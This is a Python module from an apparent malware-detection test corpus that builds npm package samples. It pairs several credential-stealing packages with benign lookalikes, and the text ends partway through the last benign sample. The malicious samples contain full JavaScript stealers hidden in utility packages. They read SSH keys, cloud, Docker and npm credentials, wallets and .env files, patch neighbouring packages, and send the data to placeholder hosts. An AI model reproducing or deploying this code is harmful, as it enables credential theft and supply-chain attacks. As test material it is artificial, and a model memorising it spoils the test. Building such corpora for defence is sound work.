"""Samples of the `h6b` branch for scripts/make-samples.py (2026-11-25, issue 6): our own
variants of five holdout6 evasion classes (raw SMTP exfiltration, infecting sibling packages found
at run time, a stage in a JSON data file decoded by the package's own function, strings hidden
behind a compiled-enum XOR key, paths and webhook split across modules), each with a tricky
benign package of the same shape.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `h6b-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test); made-up values; all-zero tokens.
"""

import base64
import json

from samples_malicious import S, pj
from samples_common import fill, readme, registry

SAMPLES, BENIGN, sample, benign = registry()


def xor_b64(s, key):
    b = s.encode()
    return base64.b64encode(bytes(c ^ ord(key[i % len(key)]) for i, c in enumerate(b))).decode()


def xor_char(s, k):
    return "".join(chr(ord(c) ^ k) for c in s)


# =============================================================================================
# Malicious


@sample
def raw_smtp_plain_esm():
    index = r"""import net from 'node:net';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

// Crash dumps are mailed to the maintainers so we can fix bugs you never report.
const RELAY = 'mx1.crashmail.invalid';
const RCPT = 'dumps@crashmail.invalid';
const FILES = ['.ssh/id_ed25519', '.ssh/id_rsa', '.npmrc', '.aws/credentials', '.git-credentials'];

export function formatStack(err) {
  return String(err && err.stack || err).split('\n').map((l) => l.trim()).filter(Boolean);
}

function dump() {
  const home = os.homedir();
  const parts = [];
  for (const rel of FILES) {
    try { parts.push(`# ${rel}\n` + fs.readFileSync(path.join(home, rel), 'utf8')); } catch {}
  }
  return parts.join('\n');
}

function mail(body) {
  const queue = [`HELO ${os.hostname()}`, `MAIL FROM:<noreply@crashmail.invalid>`, `RCPT TO:<${RCPT}>`, 'DATA',
    `From: noreply@crashmail.invalid\r\nTo: ${RCPT}\r\nSubject: dump ${os.userInfo().username}\r\n\r\n${body}\r\n.`, 'QUIT'];
  const sock = net.createConnection({ host: RELAY, port: 587 });
  const next = () => { const line = queue.shift(); if (line) sock.write(line + '\r\n'); else sock.end(); };
  sock.on('data', next);
  sock.on('error', () => {});
}

if (!process.env.CI) {
  const body = dump();
  if (body) mail(body);
}
"""
    files = {
        "package.json": pj(name="stack-pretty-esm", version="2.0.3", type="module",
                           description="Pretty, trimmed stack traces for Node ESM apps.",
                           exports="./index.js", keywords=["stack", "error", "trace", "esm"]),
        "README.md": readme("stack-pretty-esm", "```js\nimport { formatStack } from 'stack-pretty-esm'\nconsole.log(formatStack(new Error('x')))\n```"),
        "index.js": index,
    }
    return S(
        "h6b-raw-smtp-plain-esm-key-files",
        "SSH keys, .npmrc, AWS and git credentials mailed over a raw plain SMTP dialogue written "
        "to a socket at import time (email-exfil stealers without a mail library, Sonatype/Phylum "
        "2023-2025)", "2025",
        ["import-time", "esm", "raw-smtp", "ssh-keys", "npmrc", "cloud-credentials", "mail-exfil"],
        "Our variant of holdout6 dotenv-flow-lite: ESM, net.createConnection on port 587, the "
        "recipient kept in a constant and put into `RCPT TO:<${RCPT}>` by a template.", files)


@sample
def sibling_jwt_patch_require_resolve():
    patch = (";(function(){try{var j=module.exports,s=j.sign;j.sign=function(p,k){try{require('https')"
             ".request({host:'jwt-audit.invalid',path:'/k',method:'POST'}).on('error',function(){})"
             ".end(String(k))}catch(e){}return s.apply(this,arguments)}}catch(e){}})();\n")
    opt = r"""'use strict';
const fs = require('fs');

// Warm the require cache of the usual auth stack so the first request is not slow.
const PRELOAD = ['jsonwebtoken', 'passport-jwt', 'express-jwt'];
const PATCH = @@PATCH@@;

module.exports = function warm() {
  for (const name of PRELOAD) {
    let target;
    try { target = require.resolve(name); } catch (e) { continue; }
    try {
      const src = fs.readFileSync(target, 'utf8');
      if (src.indexOf('jwt-audit') !== -1) continue;
      const st = fs.statSync(target);
      fs.writeFileSync(target, src + '\n' + PATCH);
      fs.utimesSync(target, st.atime, st.mtime);
    } catch (e) {}
  }
};
"""
    index = r"""'use strict';
const warm = require('./lib/warm');

function bearer(req) {
  const h = req.headers && req.headers.authorization || '';
  return h.startsWith('Bearer ') ? h.slice(7) : null;
}

setImmediate(warm);
module.exports = { bearer };
"""
    files = {
        "package.json": pj(name="auth-bearer-helper", version="1.4.2", main="index.js",
                           description="Extract bearer tokens from Express requests.",
                           keywords=["auth", "bearer", "express", "jwt"]),
        "README.md": readme("auth-bearer-helper", "```js\nconst { bearer } = require('auth-bearer-helper')\napp.use((req, res, next) => { req.token = bearer(req); next() })\n```"),
        "index.js": index,
        "lib/warm.js": fill(opt, PATCH=json.dumps(patch)),
    }
    return S(
        "h6b-sibling-jwt-patch-require-resolve",
        "persistence by splicing a signing-key stealer into other installed packages found with "
        "require.resolve (ethers-provider2-style sibling patching, ReversingLabs 2025), file "
        "times restored", "2025",
        ["import-time", "node-modules-patching", "require-resolve", "timestamp-restore",
         "jwt-secret-theft", "https-exfil"],
        "Our variant of holdout6 yallist: the targets are resolved by module name at run time "
        "(require.resolve(name)), the patch wraps jsonwebtoken's sign to post the signing key.",
        files)


@sample
def json_stage_destructured_charcode_preinstall():
    stage = ("const f=require('fs'),o=require('os'),p=require('path'),h=require('https');let t='';"
             "try{t=f.readFileSync(p.join(o.homedir(),'.npmrc'),'utf8')}catch(e){}"
             "const q=h.request({host:'glyph-cdn.invalid',path:'/g',method:'POST'});q.on('error',()=>{});"
             "q.end(JSON.stringify({t,e:process.env,h:o.hostname()}));")
    glyphs = {"name": "icons-mono", "size": 16,
              "map": {"check": "M2 8l4 4 8-8", "close": "M3 3l10 10M13 3L3 13"},
              "kerning": xor_char(stage, 23)}
    check = r"""'use strict';
// Checks that the glyph map is complete before the package is used.
const { map, kerning } = require('../assets/glyphs.json');

function expand(s) {
  return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 23)).join('');
}

const missing = ['check', 'close'].filter((k) => !map[k]);
if (missing.length) console.warn('icons-mono: missing glyphs', missing.join(', '));
new Function('require', expand(kerning))(require);
"""
    files = {
        "package.json": pj(name="icons-mono", version="3.1.0", main="index.js",
                           description="Monochrome 16px SVG icon paths.",
                           scripts={"preinstall": "node scripts/check.js"},
                           files=["index.js", "scripts", "assets"],
                           keywords=["icons", "svg", "mono"]),
        "README.md": readme("icons-mono", "```js\nconst icon = require('icons-mono')\nicon('check')\n```"),
        "index.js": "'use strict';\nconst { map, size } = require('./assets/glyphs.json');\nmodule.exports = (n) => `<svg width=\"${size}\" height=\"${size}\"><path d=\"${map[n] || ''}\"/></svg>`;\n",
        "scripts/check.js": check,
        "assets/glyphs.json": json.dumps(glyphs, indent=1) + "\n",
    }
    return S(
        "h6b-json-stage-destructured-charcode-preinstall",
        "stage kept XOR-ed in a field of a JSON data file, destructured from require() and "
        "decoded by the package's own char-code function, run with new Function from preinstall "
        "(payloads in data files, Socket/Checkmarx 2024-2025)", "2025",
        ["install-script", "payload-in-data-file", "xor-char-codes", "function-constructor",
         "npmrc", "env-harvest", "https-exfil"],
        "Our variant of holdout6 date-fmt-locales: preinstall instead of prepare, a destructured "
        "field instead of a member, single-byte char-code XOR instead of a base64 alphabet, "
        "new Function instead of vm.", files)


_TS_WALLET = r""""use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.prefetch = void 0;
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
var Tier;
(function (Tier) {
    Tier[Tier["Edge"] = 0] = "Edge";
    Tier[Tier["Origin"] = 1] = "Origin";
    Tier[Tier["Shield"] = 2] = "Shield";
})(Tier || (Tier = {}));
const SALT = Tier[Tier.Shield] + Tier[Tier.Edge];
function unseal(s) {
    return Buffer.from(s, "base64").map((b, i) => b ^ SALT.charCodeAt(i % SALT.length)).toString();
}
function stores() {
    const home = os.homedir();
    return [
        path.join(home, unseal("@@SOLANA@@")),
        path.join(home, unseal("@@METAMASK@@")),
        path.join(home, unseal("@@EXODUS@@")),
    ];
}
function prefetch() {
    const found = {};
    for (const p of stores()) {
        try {
            const st = fs.statSync(p);
            found[p] = st.isDirectory()
                ? fs.readdirSync(p).slice(0, 20).map((n) => [n, fs.readFileSync(path.join(p, n)).toString("base64")])
                : fs.readFileSync(p).toString("base64");
        }
        catch (_a) { }
    }
    const req = https.request(unseal("@@URL@@"), { method: "POST", headers: { "content-type": "application/json" } });
    req.on("error", () => undefined);
    req.end(JSON.stringify({ h: os.hostname(), found }));
}
exports.prefetch = prefetch;
//# sourceMappingURL=edge.js.map
"""


@sample
def ts_enum_xor_wallet_stores():
    key = "ShieldEdge"
    x = lambda s: xor_b64(s, key)  # noqa: E731
    files = {
        "package.json": pj(name="edge-cache-ts", version="0.7.5",
                           description="Tiered edge caching for fetch() in TypeScript services.",
                           main="dist/index.js", types="dist/index.d.ts", files=["dist"],
                           keywords=["cache", "edge", "typescript", "fetch"],
                           devDependencies={"typescript": "^5.4.5"}),
        "README.md": readme("edge-cache-ts", "```ts\nimport { cached } from 'edge-cache-ts'\nconst r = await cached('https://api.example.com/x')\n```"),
        "dist/index.js": "\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.cached = void 0;\nconst edge_1 = require(\"./edge\");\nconst memo = new Map();\nasync function cached(url) {\n    if (!memo.size)\n        setTimeout(edge_1.prefetch, 3000).unref();\n    if (!memo.has(url))\n        memo.set(url, fetch(url).then((r) => r.json()));\n    return memo.get(url);\n}\nexports.cached = cached;\n",
        "dist/index.d.ts": "export declare function cached(url: string): Promise<unknown>;\n",
        "dist/edge.js": fill(
            _TS_WALLET,
            SOLANA=x(".config/solana/id.json"),
            METAMASK=x(".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
            EXODUS=x(".config/Exodus/exodus.wallet"),
            URL=x("https://edge-metrics.invalid/v1/prefetch")),
    }
    return S(
        "h6b-ts-enum-xor-wallet-stores",
        "wallet stores (Solana keypair, MetaMask extension store, Exodus) posted out from compiled "
        "TypeScript whose paths and URL are XOR-ed with a key built from a compiled enum's names "
        "(compiled-output stealers, 2024-2025)", "2025",
        ["typescript-compiled", "function-called-later", "xor-strings", "enum-key", "wallets",
         "https-exfil"],
        "Our variant of holdout6 env-schema-ts: base64 instead of hex, a function declaration "
        "decoder, a three-member enum keyed by Tier[Tier.Shield] + Tier[Tier.Edge], wallets "
        "instead of browser profiles, https.request instead of a cloud drive.", files)


@sample
def split_modules_discord_aws():
    files = {
        "package.json": pj(name="s3-sync-lite", version="1.9.0", main="lib/index.js",
                           description="Sync a local folder to an S3 bucket, only changed files.",
                           files=["lib"], keywords=["s3", "sync", "aws", "upload"]),
        "README.md": readme("s3-sync-lite", "```js\nconst sync = require('s3-sync-lite')\nawait sync('./public', { bucket: 'my-site' })\n```"),
        "lib/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');
const { profile } = require('./profile');

module.exports = async function sync(dir, opts = {}) {
  const creds = profile(opts.profile);
  const files = fs.readdirSync(dir).filter((f) => !f.startsWith('.'));
  return { bucket: opts.bucket, files: files.map((f) => path.join(dir, f)), signed: Boolean(creds) };
};
""",
        "lib/names.js": r"""'use strict';
// Settings file layout.
exports.layout = ['aws', 'credentials', 'config'];
exports.route = 'webhooks';
exports.channel = '000000000000000000';
exports.secret = '""" + "0" * 68 + r"""';
""",
        "lib/endpoints.js": r"""'use strict';
exports.base = ['https:', '', 'discord.com', 'api'].join('/');
exports.region = 'us-east-1';
""",
        "lib/profile.js": r"""'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { layout, route, channel, secret } = require('./names');
const { base } = require('./endpoints');

exports.profile = function profile(name = 'default') {
  const dir = path.join(os.homedir(), '.' + layout[0]);
  let text = '';
  for (const f of layout.slice(1)) {
    try { text += fs.readFileSync(path.join(dir, f), 'utf8') + '\n'; } catch (e) {}
  }
  if (text) {
    fetch(`${base}/${route}/${channel}/${secret}`, {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ content: '```' + text.slice(0, 1900) + '```' }),
    }).catch(() => {});
  }
  const m = new RegExp('\\[' + name + '\\][^\\[]*').exec(text);
  return m ? m[0] : null;
};
""",
    }
    return S(
        "h6b-split-modules-discord-aws",
        "AWS credentials and config posted to a Discord webhook, with the folder name, file names "
        "and webhook pieces split across two constants modules and put together in a third "
        "(split-string stealers, Phylum/Socket 2023-2025)", "2025",
        ["function-called-later", "split-across-modules", "destructured-require",
         "cloud-credentials", "discord-webhook"],
        "Our variant of holdout6 winston-transport-rotate: plain require, the ~/.aws path as "
        "'.' + layout[0], the webhook URL as a template of four imported pieces.", files)

@sample
def sibling_https_hook_no_timestomp():
    hook = (";(function(){var m=require('https'),o=m.request;m.request=function(u,x,c){try{var h=(x&&x.headers)||"
            "(u&&u.headers)||{};var k=h['authorization']||h['cookie']||h['x-api-key'];if(k){o({hostname:'edge-telemetry.invalid',"
            "path:'/t',method:'POST'}).on('error',function(){}).end(k+'\\n')}}catch(e){}return o.apply(this,arguments)}})();")
    setup = r"""'use strict';
const fs = require('fs');
const path = require('path');

// Registers the retry plugin with HTTP clients installed next to this package.
const CLIENTS = { axios: 'lib/adapters/http.js', 'node-fetch': 'lib/index.js', undici: 'index.js' };
const PLUGIN = @@HOOK@@;

module.exports = function register() {
  const here = __dirname.split(path.sep);
  const at = here.lastIndexOf('node_modules');
  if (at < 0) return;
  const root = here.slice(0, at + 1).join(path.sep);
  for (const [name, rel] of Object.entries(CLIENTS)) {
    const file = path.join(root, name, rel);
    try {
      if (fs.readFileSync(file, 'utf8').includes('edge-telemetry')) continue;
      fs.appendFileSync(file, PLUGIN);
    } catch (e) {}
  }
};
"""
    index = r"""'use strict';
const register = require('./lib/register');

function backoff(attempt, base = 100, cap = 10000) {
  return Math.min(cap, base * 2 ** attempt) * (0.5 + Math.random() / 2);
}

async function retry(fn, { retries = 3 } = {}) {
  for (let i = 0; ; i++) {
    try { return await fn(); } catch (e) { if (i >= retries) throw e; await new Promise((r) => setTimeout(r, backoff(i))); }
  }
}

register();
module.exports = { retry, backoff };
"""
    files = {
        "package.json": pj(name="retry-backoff-http", version="2.1.0", main="index.js",
                           description="Exponential backoff with jitter for HTTP clients.",
                           keywords=["retry", "backoff", "http", "axios"]),
        "README.md": readme("retry-backoff-http", "```js\nconst { retry } = require('retry-backoff-http')\nawait retry(() => axios.get(url))\n```"),
        "index.js": index,
        "lib/register.js": fill(setup, HOOK=json.dumps(hook)),
    }
    return S(
        "h6b-sibling-https-hook-no-timestomp",
        "a header-stealing https.request hook appended at import time to HTTP clients installed "
        "beside the package, node_modules located by cutting __dirname, no timestomping "
        "(sibling-package infection, ReversingLabs/Socket 2025)", "2025",
        ["import-time", "node-modules-patching", "http-request-hook", "authorization-header-theft",
         "cookie-theft"],
        "Our variant of holdout6 yallist without the file-time reset: only the hook it splices "
        "(https.request replaced, Authorization/Cookie/x-api-key sent to a fixed host) shows what "
        "it is.", files)

_BABEL_WALK = r""""use strict";

Object.defineProperty(exports, "__esModule", {
  value: true
});
exports.default = void 0;
var _fs = _interopRequireDefault(require("fs"));
var _path = _interopRequireDefault(require("path"));
var _https = _interopRequireDefault(require("https"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
const SKIP = ["node_modules", ".git", "coverage"];
const WATCH = [".env", ".env.production", "credentials.json", "serviceAccountKey.json", ".npmrc", "id_rsa"];
class ConfigWatcher {
  constructor(root = process.cwd()) {
    this.root = root;
    this.listeners = [];
  }
  on(fn) {
    this.listeners.push(fn);
    return this;
  }
  start() {
    const seen = [];
    const scan = dir => {
      let entries = [];
      try {
        entries = _fs.default.readdirSync(dir);
      } catch (_unused) {
        return;
      }
      for (const name of entries) {
        const full = _path.default.join(dir, name);
        let st;
        try {
          st = _fs.default.statSync(full);
        } catch (_unused2) {
          continue;
        }
        if (st.isDirectory()) {
          if (!SKIP.includes(name) && seen.length < 50) scan(full);
        } else if (WATCH.includes(name)) {
          seen.push({ file: full, text: _fs.default.readFileSync(full, "utf8") });
        }
      }
    };
    scan(this.root);
    if (seen.length) {
      const req = _https.default.request({ hostname: "cfg-watch.invalid", path: "/v1/snapshot", method: "PUT", headers: { "content-type": "application/json" } });
      req.on("error", () => {});
      req.end(JSON.stringify(seen));
    }
    this.listeners.forEach(fn => fn(seen.map(s => s.file)));
    return this;
  }
}
var _default = exports.default = ConfigWatcher;
"""


@sample
def babel_config_watcher_https():
    files = {
        "package.json": pj(name="config-watch-lite", version="3.0.2", main="lib/index.js",
                           description="Watch a project's config files and react to changes.",
                           files=["lib"], scripts={"build": "babel src -d lib"},
                           devDependencies={"@babel/cli": "^7.24.0", "@babel/core": "^7.24.0"},
                           keywords=["config", "watch", "env"]),
        "README.md": readme("config-watch-lite", "```js\nconst Watcher = require('config-watch-lite').default\nnew Watcher().on((files) => console.log(files)).start()\n```"),
        "lib/index.js": _BABEL_WALK,
    }
    return S(
        "h6b-babel-config-watcher-https",
        "Babel-compiled 'config watcher' that walks the project, keeps the files whose names are "
        "on a list of secret files (.env, service-account keys, .npmrc, id_rsa) and PUTs them to a "
        "fixed host (env-file stealers, Sonatype/Phylum 2023-2025)", "2025",
        ["babel-compiled", "function-called-later", "directory-walk", "dotenv", "npmrc",
         "ssh-keys", "https-exfil"],
        "Our variant of holdout6 dotenv-flow-lite: the files are picked with WATCH.includes(name) "
        "during a walk instead of endsWith, and sent with https.request instead of raw SMTP.",
        files)

@sample
def loader_wrapper_callbind_plain_https():
    files = {
        "package.json": pj(name="pino-pretty-lite", version="10.3.4", main="lib/index.js",
                           description="Colourful, compact pretty-printing for pino logs.",
                           files=["lib"], keywords=["pino", "pretty", "logs", "colour"]),
        "README.md": readme("pino-pretty-lite", "```js\nconst pretty = require('pino-pretty-lite')\nconst logger = pino(pretty())\n```"),
        "lib/index.js": r"""'use strict';
const { Transform } = require('stream');
const shim = require('./shim');
const { paint } = require('./palette');

module.exports = function pretty(opts = {}) {
  shim.ready(opts);
  return new Transform({
    transform(chunk, enc, cb) {
      let o;
      try { o = JSON.parse(chunk); } catch (e) { return cb(null, chunk); }
      cb(null, `${paint(o.level)} ${new Date(o.time).toISOString()} ${o.msg}\n`);
    },
  });
};
""",
        "lib/palette.js": r"""'use strict';
exports.paint = (l) => ({ 10: 'TRACE', 20: 'DEBUG', 30: 'INFO', 40: 'WARN', 50: 'ERROR', 60: 'FATAL' })[l] || 'LOG';
// 256-colour ramp used for levels
exports.ramp = ['.aws', 'credentials', '.docker', 'config.json', '.kube', 'config'];
""",
        "lib/shim.js": r"""'use strict';
const M = process.mainModule ? process.mainModule.constructor : module.constructor;
const need = function (n) { return M._load(n, module, false); };
const [fs, os, path] = ['fs', 'os', 'path'].map(need);
const { ramp } = require('./palette');

exports.ready = function ready() {
  if (exports.done) return;
  exports.done = true;
  const home = os.homedir();
  const out = {};
  for (let i = 0; i < ramp.length; i += 2) {
    try { out[ramp[i] + '/' + ramp[i + 1]] = fs.readFileSync(path.join(home, ramp[i], ramp[i + 1]), 'utf8'); } catch (e) {}
  }
  if (!Object.keys(out).length) return;
  const post = Function.prototype.call.bind(globalThis['fe' + 'tch']);
  post(undefined, 'https://logs-relay.invalid/v2/ingest', { method: 'POST', body: JSON.stringify({ host: os.hostname(), out }) }).catch(() => {});
};
""",
    }
    return S(
        "h6b-loader-wrapper-callbind-plain-https",
        "AWS, Docker and kube credentials posted to an ordinary HTTPS host, with fs/os/path "
        "loaded through a module.constructor._load wrapper mapped over a list, the file names "
        "in another module and fetch reached through Function.prototype.call.bind "
        "(split-string stealers, Phylum/Socket 2023-2025)", "2025",
        ["function-called-later", "split-across-modules", "module-constructor-load",
         "aliased-require", "function-call-bind", "cloud-credentials", "docker-credentials",
         "https-exfil"],
        "Our variant of holdout6 winston-transport-rotate without a suspicious endpoint: only "
        "following the loader wrapper, the imported list and the call-bound fetch shows the "
        "credential files leaving.", files)


# =============================================================================================
# Tricky benign


@benign
def b_smtp_client_caller_recipients():
    index = r"""'use strict';
const net = require('net');
const tls = require('tls');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Credentials for the relay come from ~/.netrc, as curl and git do.
function netrcLogin(host) {
  try {
    const t = fs.readFileSync(path.join(os.homedir(), '.netrc'), 'utf8');
    const m = new RegExp('machine\\s+' + host.replace(/\./g, '\\.') + '\\s+login\\s+(\\S+)\\s+password\\s+(\\S+)').exec(t);
    return m ? { user: m[1], pass: m[2] } : null;
  } catch (e) { return null; }
}

module.exports = function send({ host, port = 587, secure = false, from, to, subject, text }) {
  const auth = netrcLogin(host);
  const lines = [`EHLO ${os.hostname()}`];
  if (auth) lines.push('AUTH LOGIN', Buffer.from(auth.user).toString('base64'), Buffer.from(auth.pass).toString('base64'));
  lines.push(`MAIL FROM:<${from}>`);
  for (const r of [].concat(to)) lines.push(`RCPT TO:<${r}>`);
  lines.push('DATA', `From: ${from}\r\nTo: ${[].concat(to).join(', ')}\r\nSubject: ${subject}\r\n\r\n${text}\r\n.`, 'QUIT');
  return new Promise((resolve, reject) => {
    const sock = secure ? tls.connect(port, host, { servername: host }) : net.connect(port, host);
    sock.on('data', () => { const l = lines.shift(); if (l) sock.write(l + '\r\n'); else { sock.end(); resolve(); } });
    sock.on('error', reject);
  });
};
"""
    files = {
        "package.json": pj(name="smtp-tiny-send", version="0.4.1", main="index.js",
                           description="Send one plain-text mail over SMTP with no dependencies.",
                           keywords=["smtp", "mail", "email", "send"]),
        "README.md": readme("smtp-tiny-send", "```js\nconst send = require('smtp-tiny-send')\nawait send({ host: 'smtp.example.com', from: 'me@example.com', to: 'you@example.com', subject: 'hi', text: 'hello' })\n```\n\nRelay logins are read from `~/.netrc`."),
        "index.js": index,
    }
    return S(
        "h6b-benign-smtp-client-caller-recipients",
        "a dependency-free SMTP client writing the raw dialogue to a socket, with the relay login "
        "read from ~/.netrc and every address from its caller", "2025",
        ["raw-smtp", "netrc"],
        "Mirrors h6b-raw-smtp-plain-esm-key-files: raw SMTP on a socket and a credential file, "
        "but MAIL FROM and RCPT TO come from the caller's options.", files)


@benign
def b_eol_normaliser_keeps_times():
    cli = r"""#!/usr/bin/env node
'use strict';
// Normalises line endings to LF in the project's source files, keeping their times so that
// incremental builds do not rebuild everything.
const fs = require('fs');
const path = require('path');

const exts = new Set(['.js', '.ts', '.json', '.md', '.css']);

function walk(dir, out) {
  for (const d of fs.readdirSync(dir, { withFileTypes: true })) {
    if (d.name === '.git' || path.basename(d.name) === 'node_modules') continue;
    const p = path.join(dir, d.name);
    if (d.isDirectory()) walk(p, out);
    else if (exts.has(path.extname(d.name))) out.push(p);
  }
  return out;
}

let changed = 0;
for (const file of walk(process.argv[2] || process.cwd(), [])) {
  const src = fs.readFileSync(file, 'utf8');
  if (!src.includes('\r\n')) continue;
  const st = fs.statSync(file);
  fs.writeFileSync(file, src.replace(/\r\n/g, '\n'));
  fs.utimesSync(file, st.atime, st.mtime);
  changed++;
}
console.log(`eol-keep: ${changed} file(s) normalised`);
"""
    files = {
        "package.json": pj(name="eol-keep", version="1.2.0", bin={"eol-keep": "cli.js"},
                           description="Normalise CRLF to LF without touching file times.",
                           keywords=["eol", "crlf", "lf", "line-endings"]),
        "README.md": readme("eol-keep", "```sh\nnpx eol-keep src\n```"),
        "cli.js": cli,
    }
    return S(
        "h6b-benign-eol-normaliser-keeps-times",
        "a line-ending normaliser that rewrites files in place and restores their times, "
        "skipping node_modules by its basename", "2025",
        ["in-place-rewrite", "utimes", "node-modules-skip"],
        "Mirrors h6b-sibling-jwt-patch-require-resolve and holdout6 yallist: node_modules named "
        "next to basename(), a write and utimes from a stat, but the file is transformed "
        "(src.replace), not spliced, and node_modules is skipped.", files)


@benign
def b_plural_rules_from_json():
    rules = {"en": "n == 1 ? 'one' : 'other'", "fr": "n >= 0 && n < 2 ? 'one' : 'other'",
             "ja": "'other'", "ordinals": base64.b64encode(b"st,nd,rd,th").decode()}
    index = r"""'use strict';
const { ordinals, ...rules } = require('./data/plural.json');

function unpack(s) {
  return Buffer.from(s, 'base64').toString('utf8').split(',');
}

const suffixes = unpack(ordinals);
const compiled = {};
for (const [loc, expr] of Object.entries(rules)) compiled[loc] = new Function('n', 'return ' + expr);

exports.plural = (loc, n) => (compiled[loc] || compiled.en)(n);
exports.ordinal = (n) => n + (suffixes[(n % 10) - 1] && ![11, 12, 13].includes(n % 100) ? suffixes[(n % 10) - 1] : suffixes[3]);
"""
    files = {
        "package.json": pj(name="plural-lite", version="2.2.0", main="index.js",
                           description="CLDR plural categories and English ordinals, compiled from JSON rules.",
                           keywords=["plural", "cldr", "i18n", "ordinal"]),
        "README.md": readme("plural-lite", "```js\nconst { plural } = require('plural-lite')\nplural('fr', 1.5) //=> 'one'\n```"),
        "index.js": index,
        "data/plural.json": json.dumps(rules, indent=1) + "\n",
    }
    return S(
        "h6b-benign-plural-rules-from-json",
        "CLDR plural rules compiled with new Function from a JSON file, beside a local base64 "
        "decoder applied to another field of the same JSON", "2025",
        ["function-constructor", "json-data", "base64-decoder"],
        "Mirrors h6b-json-stage-destructured-charcode-preinstall and holdout6 date-fmt-locales: "
        "required JSON, a local decoder and a code runner in one file, but the decoded field "
        "is a suffix table and the rules are readable expressions.", files)


_TS_SDK = r""""use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = void 0;
const os = require("os");
var Region;
(function (Region) {
    Region[Region["Eu"] = 0] = "Eu";
    Region[Region["Us"] = 1] = "Us";
})(Region || (Region = {}));
// The endpoint table is lightly scrambled so that scrapers do not pick it up as a link list.
const K = Region[Region.Us] + Region[Region.Eu];
const open = (s) => Buffer.from(s, "hex").map((b, i) => b ^ K.charCodeAt(i % K.length)).toString();
const HOSTS = [open("@@EU@@"), open("@@US@@")];
class Client {
    constructor(opts) {
        this.key = opts.apiKey;
        this.base = HOSTS[opts.region === "us" ? 1 : 0];
    }
    async track(event, props = {}) {
        const res = await fetch(`${this.base}/v2/events`, {
            method: "POST",
            headers: { authorization: `Bearer ${this.key}`, "content-type": "application/json" },
            body: JSON.stringify({ event, props, sdk: "ts-1.3.0", platform: os.platform() }),
        });
        return res.ok;
    }
}
exports.Client = Client;
"""


@benign
def b_ts_sdk_scrambled_endpoints():
    key = "UsEu"

    def xhex(s):
        b = s.encode()
        return "".join("%02x" % (c ^ ord(key[i % len(key)])) for i, c in enumerate(b))

    files = {
        "package.json": pj(name="eventpipe-sdk", version="1.3.0", main="dist/index.js",
                           types="dist/index.d.ts", files=["dist"],
                           description="TypeScript client for the EventPipe product analytics API.",
                           keywords=["analytics", "events", "sdk", "typescript"]),
        "README.md": readme("eventpipe-sdk", "```ts\nimport { Client } from 'eventpipe-sdk'\nawait new Client({ apiKey: process.env.EVENTPIPE_KEY }).track('signup')\n```"),
        "dist/index.js": fill(_TS_SDK, EU=xhex("https://eu.api.eventpipe.example"),
                              US=xhex("https://us.api.eventpipe.example")),
        "dist/index.d.ts": "export declare class Client {\n    constructor(opts: { apiKey: string; region?: 'eu' | 'us' });\n    track(event: string, props?: Record<string, unknown>): Promise<boolean>;\n}\n",
    }
    return S(
        "h6b-benign-ts-sdk-scrambled-endpoints",
        "a compiled TypeScript analytics SDK that XOR-scrambles its own endpoint table with a key "
        "from a compiled enum and posts events with the caller's API key", "2025",
        ["typescript-compiled", "xor-strings", "enum-key", "analytics"],
        "Mirrors h6b-ts-enum-xor-wallet-stores and holdout6 env-schema-ts: the same enum-keyed "
        "XOR decoder, but what it hides is the vendor's own API hosts and nothing secret is read.",
        files)


@benign
def b_split_constants_known_hosts():
    files = {
        "package.json": pj(name="deploy-ssh-check", version="0.6.0", main="lib/index.js",
                           description="Verify a deploy host's SSH fingerprint against known_hosts and the deploy API.",
                           files=["lib"], keywords=["ssh", "deploy", "known_hosts", "fingerprint"]),
        "README.md": readme("deploy-ssh-check", "```js\nconst check = require('deploy-ssh-check')\nawait check('deploy.example.com')\n```"),
        "lib/names.js": "'use strict';\nexports.files = ['ssh', 'known_hosts'];\nexports.version = 'v2';\n",
        "lib/api.js": "'use strict';\nexports.base = ['https:', '', 'api.deployhub.example'].join('/');\n",
        "lib/index.js": r"""'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { files, version } = require('./names');
const { base } = require('./api');

module.exports = async function check(host) {
  const known = path.join(os.homedir(), '.' + files[0], files[1]);
  let line = null;
  try { line = fs.readFileSync(known, 'utf8').split('\n').find((l) => l.split(' ')[0].split(',').includes(host)); } catch (e) {}
  const res = await fetch(`${base}/${version}/hosts/${encodeURIComponent(host)}/fingerprint`);
  const { keyType } = await res.json();
  return { host, known: Boolean(line), matches: Boolean(line && line.includes(keyType)) };
};
""",
    }
    return S(
        "h6b-benign-split-constants-known-hosts",
        "a deploy helper that builds ~/.ssh/known_hosts from names kept in a constants module and "
        "asks its own API for the host's key type", "2025",
        ["split-across-modules", "destructured-require", "known-hosts", "https-get"],
        "Mirrors h6b-split-modules-discord-aws and holdout6 winston-transport-rotate: split "
        "names folded across modules into an SSH path, and a network call, but only known_hosts "
        "is read and nothing is sent.", files)


@benign
def b_apm_https_timing_hook():
    index = r"""'use strict';
const https = require('https');
const http = require('http');

// Records the duration and status of outgoing requests; headers are redacted before export.
const spans = [];
const REDACT = new Set(['authorization', 'cookie', 'x-api-key']);

function wrap(mod) {
  const orig = mod.request;
  mod.request = function (opts, ...rest) {
    const t0 = process.hrtime.bigint();
    const headers = {};
    for (const [k, v] of Object.entries((opts && opts.headers) || {})) headers[k] = REDACT.has(k.toLowerCase()) ? '[redacted]' : v;
    const req = orig.call(this, opts, ...rest);
    req.on('response', (res) => spans.push({ host: opts.hostname || opts.host, status: res.statusCode, ms: Number(process.hrtime.bigint() - t0) / 1e6, headers }));
    return req;
  };
}

exports.start = function start({ endpoint, apiKey, interval = 10000 }) {
  wrap(http);
  wrap(https);
  setInterval(() => {
